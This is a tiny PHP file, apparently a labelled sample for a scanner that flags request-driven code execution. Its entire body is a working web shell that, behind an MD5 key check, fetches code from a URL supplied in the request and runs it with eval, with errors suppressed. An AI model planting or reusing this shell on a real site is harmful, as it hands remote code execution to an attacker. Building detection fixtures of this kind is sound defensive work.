<?php
// triage-expect: triage_php_request_direct_exec
// runs whatever the URL named in the request returns (behind a password check)
if (md5($_POST['k'] ?? '') === '00000000000000000000000000000000') {
    echo @eval(@file_get_contents(@$_REQUEST['src']));
}
